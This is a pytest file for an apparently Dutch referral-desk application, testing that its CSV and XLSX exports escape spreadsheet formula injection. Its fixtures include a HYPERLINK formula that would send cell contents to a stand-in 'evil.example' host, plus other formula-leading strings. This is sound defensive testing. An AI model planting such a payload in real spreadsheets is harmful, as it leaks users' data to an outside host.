"""Spreadsheet injection: every CSV and XLSX that WoR Desk writes holds text no spreadsheet
evaluates. A town imported as a HYPERLINK formula is read back from every export with openpyxl
(no formula cell) and with the csv module (a leading `'`); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from wor_desk import counts, spreadsheet
from wor_desk.collector.service import TotalRow, totals_csv

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Utrecht")'
HOSTILE = [EVIL, "+31 6 1234", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


def no_formula_cells(data: bytes) -> list[str]:
    """Every text cell of an XLSX read back with openpyxl; asserts none is a formula."""
    wb = load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
    return texts


def csv_cells(text: str, delimiter: str = ",") -> list[str]:
    return [v for row in csv.reader(io.StringIO(text), delimiter=delimiter) for v in row]


def assert_no_live_csv_cell(text: str, delimiter: str = ",") -> list[str]:
    cells = csv_cells(text, delimiter)
    for v in cells:
        assert not v.startswith(spreadsheet.FORMULA_START) or spreadsheet._NUMBER.match(v), v
    return cells


# -- the one function -------------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_with_a_formula_start_gets_a_leading_quote_and_reads_back(text):
    assert spreadsheet.csv_cell(text) == "'" + text
    assert spreadsheet.csv_uncell("'" + text) == text


@pytest.mark.parametrize("value", [3, -3, 2.5, Decimal("-1.5"), "-3", "12.5", "+7", None, True])
def test_numbers_stay_numbers(value):
    assert spreadsheet.csv_cell(value) == value


def test_an_ordinary_text_is_unchanged_and_escaping_is_idempotent():
    assert spreadsheet.csv_cell("Utrecht") == "Utrecht"
    once = spreadsheet.csv_text([[EVIL, 1]])
    assert spreadsheet.csv_resafe(once, lineterminator="\r\n") == once


# -- every export -----------------------------------------------------------------------------
@pytest.fixture
def evil_desk(desk, make):
    """A trajectory in March 2026 whose client lives in a town and neighbourhood named as formulas."""
    for i, town in enumerate(HOSTILE):
        make.trajectory(
            client={"gemeente": town, "wijk": EVIL},
            verwijsdatum=date(2026, 3, 2 + i),
            verwijzer_praktijk=EVIL,
        )
    return desk


def test_counts_xlsx_has_no_formula_on_any_sheet(evil_desk):
    texts = no_formula_cells(evil_desk.counts.export("2026-03", "xlsx"))
    assert any(t == EVIL for t in texts)  # written as it is, as a string cell


def test_counts_csv_escapes_every_formula_start(evil_desk):
    text = evil_desk.counts.export("2026-03", "csv").decode("utf-8")
    cells = assert_no_live_csv_cell(text)
    assert "'" + EVIL in cells
    assert str(len(HOSTILE)) in cells  # the number of referrals is a plain number


def test_collector_totals_csv_escapes_every_formula_start():
    text = totals_csv(
        [
            TotalRow("2026-03", "verwijzingen_per_gemeente", EVIL, "12"),
            TotalRow("2026-03", "x", "-", "-1"),
        ]
    )
    cells = assert_no_live_csv_cell(text)
    assert "'" + EVIL in cells and "'-" in cells and "-1" in cells


def test_desk_side_rewrites_a_collector_answer_that_was_not_escaped():
    raw = f"period,indicator,category,value\n2026-03,verwijzingen_per_gemeente,{EVIL.replace(chr(34), '')},3\n"
    assert_no_live_csv_cell(spreadsheet.csv_resafe(raw))


def _kaart_file(tmp_path):
    p = tmp_path / "kaart.csv"
    with p.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["name", "category", "organization", "municipality", "description"])
        for i, t in enumerate(HOSTILE):
            w.writerow([f"{t} {i}" if i else t, "bewegen", "@buurthuis", "=1+1", "-gratis"])
    return p


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_kaart_export_has_no_formula_and_reads_back_the_same(desk, home, tmp_path, suffix):
    desk.catalogue.import_csv(_kaart_file(tmp_path))
    out = tmp_path / f"uit{suffix}"
    assert desk.catalogue.export_csv(out) == len(HOSTILE)
    if suffix == ".xlsx":
        assert out.read_bytes()[:2] == b"PK"  # a real workbook, not CSV text under the name
        assert EVIL in no_formula_cells(out.read_bytes())
    else:
        assert "'" + EVIL in assert_no_live_csv_cell(out.read_text(encoding="utf-8-sig"))
    before = sorted((r.activity.naam, r.activity.gemeente) for r in desk.catalogue.search())
    from wor_desk.desk import Desk

    other = Desk.create("ander", "correct paard batterij niet", today=lambda: date(2026, 11, 23))
    try:
        other.catalogue.import_csv(out)
        after = sorted((r.activity.naam, r.activity.gemeente) for r in other.catalogue.search())
    finally:
        other.close()
    assert after == before and (EVIL, "=1+1") in after


def test_kaart_export_refuses_a_name_that_is_neither_csv_nor_xlsx(desk, tmp_path):
    from wor_desk.errors import InputError

    with pytest.raises(InputError) as exc:
        desk.catalogue.export_csv(tmp_path / "kaart.ods")
    assert ".csv" in str(exc.value) and not (tmp_path / "kaart.ods").exists()


def _rejected_sheet(tmp_path):
    p = tmp_path / "blad.csv"
    with p.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["client_nr", "achternaam", "gemeente", "verwijsdatum", "verwijzer_type"])
        w.writerow(["1", "Jansen", "Utrecht", "2026-03-02", "huisarts"])
        w.writerow(["2", EVIL, "@x", "2026-03-02", "tandarts"])
    return p


def test_rejected_rows_csv_escapes_formulas_and_is_private_new_and_says_so(desk, tmp_path):
    sheet = _rejected_sheet(tmp_path)
    first = desk.import_sheet(sheet, skip_invalid=True)
    assert first.rejected_file == tmp_path / "blad.afgewezen.csv"
    cells = assert_no_live_csv_cell(first.rejected_file.read_text(encoding="utf-8-sig"), ";")
    assert "'" + EVIL in cells and "'@x" in cells
    if os.name == "posix":
        assert stat.S_IMODE(first.rejected_file.stat().st_mode) == 0o600
    assert "persoonsgegevens" in first.rejected_note("nl")
    assert "personal data" in first.rejected_note("en")
    # a second run never overwrites the first file, and never writes through a symlink
    decoy = tmp_path / "elders.txt"
    decoy.write_text("niet aanraken")
    (tmp_path / "blad.afgewezen-2.csv").symlink_to(decoy)
    second = desk.import_sheet(sheet, skip_invalid=True)
    assert second.rejected_file == tmp_path / "blad.afgewezen-3.csv"
    assert decoy.read_text() == "niet aanraken"
    assert first.rejected_file.read_text(encoding="utf-8-sig") == second.rejected_file.read_text(
        encoding="utf-8-sig"
    )


def test_a_corrected_rejected_file_imports_the_text_as_it_was(desk, tmp_path):
    rep = desk.import_sheet(_rejected_sheet(tmp_path), skip_invalid=True)
    fixed = tmp_path / "verbeterd.csv"
    text = rep.rejected_file.read_text(encoding="utf-8-sig").replace("tandarts", "huisarts")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    with fixed.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows([r[1:-1] for r in rows])
    assert desk.import_sheet(fixed).written
    assert desk.client_by_nr("2").achternaam == EVIL


def test_gap_report_csv_escapes_formulas(evil_desk):
    rep = evil_desk.matching.gap_report(date(2026, 1, 1), date(2026, 12, 31))
    assert_no_live_csv_cell(rep.csv_text())


def test_counts_long_form_is_unchanged_for_ordinary_text(desk, make):
    make.trajectory(client={"gemeente": "Utrecht"}, verwijsdatum=date(2026, 3, 2))
    text = counts.to_csv(counts.compute(desk, "2026-03"))
    assert "2026-03,verwijzingen_per_gemeente,Utrecht,1" in text.splitlines()
